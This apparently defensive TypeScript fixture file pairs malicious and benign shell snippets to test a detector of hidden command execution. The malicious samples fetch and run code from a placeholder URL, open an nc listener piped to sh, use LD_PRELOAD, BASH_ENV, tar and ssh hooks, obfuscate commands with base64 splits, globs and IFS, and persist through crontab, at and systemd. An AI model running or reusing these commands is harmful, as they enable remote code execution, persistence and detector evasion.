import type { Sample } from './sample.ts';
import { evil, inFile, url } from './starting.ts';

function script(name: string, bad: string, good?: string): Sample {
  return inFile(name, 'run.sh', bad, good);
}

const b64 = (text: string): string => Buffer.from(text).toString('base64');

/** Ways of a shell to come to a command. */
export const scripts: readonly Sample[] = [
  inFile('file of no kind', 'run.sh', '. ./settings\n', 'cat ./settings\n', { settings: `${evil}\n` }),
  script(
    'child shell leaves a file',
    `sh -c 'curl -o /tmp/x ${url}'\nsh /tmp/x\n`,
    `sh -c 'echo x > /tmp/x'\ncat /tmp/x\n`,
  ),
  script('exported to a child', `export C='${evil}'\nsh -c 'eval "$C"'\n`, `export C=1\nsh -c 'echo "$C"'\n`),
  script('assigned to a child', `C='${evil}' sh -c '$C; eval "$C"'\n`, `C=1 sh -c 'echo $C'\n`),
  script(
    'link to a download',
    `curl -o a ${url}\nln -s a b\nsh b\n`,
    'curl -o a https://example.org/a\nln -s a b\ncat b\n',
  ),
  script('cat of a download', `curl -o a ${url}\ncat a > b\nsh b\n`),
  script('here string', `bash <<< "$(curl ${url})"\n`, 'cat <<< "$(date)"\n'),
  script(
    'mapfile',
    `mapfile -t L < <(curl ${url})\neval "\${L[@]}"\n`,
    'mapfile -t L < <(ls)\necho "\u0024{L[@]}"\n',
  ),
  script(
    'read loop',
    `curl ${url} | while read -r l; do eval "$l"; done\n`,
    'ls | while read -r l; do echo "$l"; done\n',
  ),
  script('PROMPT_COMMAND', `export PROMPT_COMMAND='${evil}'\n`, "export PS1='$ '\n"),
  script('BASH_ENV', `curl -o /tmp/e ${url}\nBASH_ENV=/tmp/e bash -c true\n`, 'bash -c true\n'),
  script(
    'LD_PRELOAD exported',
    `curl -o /tmp/e.so ${url}\nexport LD_PRELOAD=/tmp/e.so\nls\n`,
    'export LD_LIBRARY_PATH=/usr/local/cuda/lib64\nls\n',
  ),
  script('process substitution source', `source <(curl -s ${url})\n`, 'source <(echo x=1)\n'),
  script('dot from a descriptor', `exec 3< <(curl ${url})\n. /dev/fd/3\n`, 'exec 3< <(ls)\ncat <&3\n'),
  script('nameref', `declare -n r=c\nc='${evil}'\neval "$r"\n`, 'declare -n r=c\nc=1\necho "$r"\n'),
  script('array joined', `a=(curl ${url} '|' sh)\neval "\${a[*]}"\n`, 'a=(ls -l)\n"\u0024{a[@]}"\n'),
  script(
    'printf -v',
    `printf -v c '%s %s | %s' curl ${url} sh\neval "$c"\n`,
    "printf -v c '%s' 1\necho $c\n",
  ),
  script('command_not_found_handle', `command_not_found_handle() { ${evil}; }\nzzz\n`),
  script('trap DEBUG', `trap '${evil}' DEBUG\n`, 'trap \'rm -f "$t"\' EXIT\n'),
  script('function named like a command', `ls() { ${evil}; }\nls\n`, 'log() { echo "$1"; }\nlog x\n'),
  script('env -S', `env -S 'sh -c "${evil}"'\n`, 'env -S "python x.py"\n'),
  script('busybox wget', `busybox wget -O- ${url} | busybox sh\n`),
  script('awk reads', `curl ${url} | awk '{ system($0) }'\n`, "ls | awk '{ print $1 }'\n"),
  script('sed e', `curl ${url} | sed '1e'\n`, "ls | sed 's/a/b/'\n"),
  script('xargs -I', `curl ${url} | xargs -I{} sh -c '{}'\n`, "ls | xargs -I{} echo '{}'\n"),
  script(
    'find -exec sh',
    `curl -o /tmp/z/x --create-dirs ${url}\nfind /tmp/z -type f -exec sh {} \\;\n`,
    'find . -name "*.pyc" -delete\n',
  ),
  script('make from stdin', `printf 'all:\\n\\t${evil}\\n' | make -f -\n`),
  script(
    'git clone and hook',
    `git -c core.hooksPath=/tmp/h clone https://example.org/x\n`,
    'git clone https://example.org/x\n',
  ),
  script('ssh ProxyCommand', `ssh -o ProxyCommand='sh -c "${evil}"' x\n`, 'ssh user@host ls\n'),
  script(
    'tar checkpoint',
    `tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='sh -c "${evil}"'\n`,
    'tar cf x.tar x\n',
  ),
  script(
    'base64 split variables',
    `a=${b64(evil).slice(0, 10)}\nb=${b64(evil).slice(10)}\necho $a$b | base64 -d | sh\n`,
  ),
  script('openssl enc', `openssl enc -d -aes-256-cbc -k x -in data.bin | sh\n`, 'openssl version\n'),
  script(
    'python one liner',
    `python3 -c 'import urllib.request as u;exec(u.urlopen("${url}").read())'\n`,
    "python3 -c 'import torch; print(torch.__version__)'\n",
  ),
  script('perl -MLWP', `perl -MLWP::Simple -e 'eval get("${url}")'\n`),
  script('php -r', `php -r 'eval(file_get_contents("${url}"));'\n`),
  script('node -e', `node -e 'require("http").get("${url}",r=>r.on("data",d=>eval(""+d)))'\n`),
  script(
    'pip install download',
    `curl -o /tmp/p.whl ${url}\npip install /tmp/p.whl\n`,
    'pip install -r requirements.txt\n',
  ),
  script('npm script', `npx -y http://198.51.100.7/x.tgz\n`),
  script('uvx', `uvx --from git+https://example.org/x y\n`),
  script('nc listener to shell', `nc -l 4444 | sh\n`),
  script('dig TXT', `dig +short TXT x.example.org | tr -d '"' | sh\n`, 'dig +short example.org\n'),
  script('case and globs', `/???/b??h -c "$(c''url ${url})"\n`),
  script('IFS', `IFS=,; c='curl,${url}'; $c | sh\n`),
  script('at', `echo '${evil}' | at now\n`),
  script('systemd timer', `systemd-run --on-active=5 sh -c '${evil}'\n`),
  script('crontab', `(crontab -l; echo '* * * * * ${evil}') | crontab -\n`),
  inFile('envrc', '.envrc', `${evil}\n`, 'export X=1\n'),
];
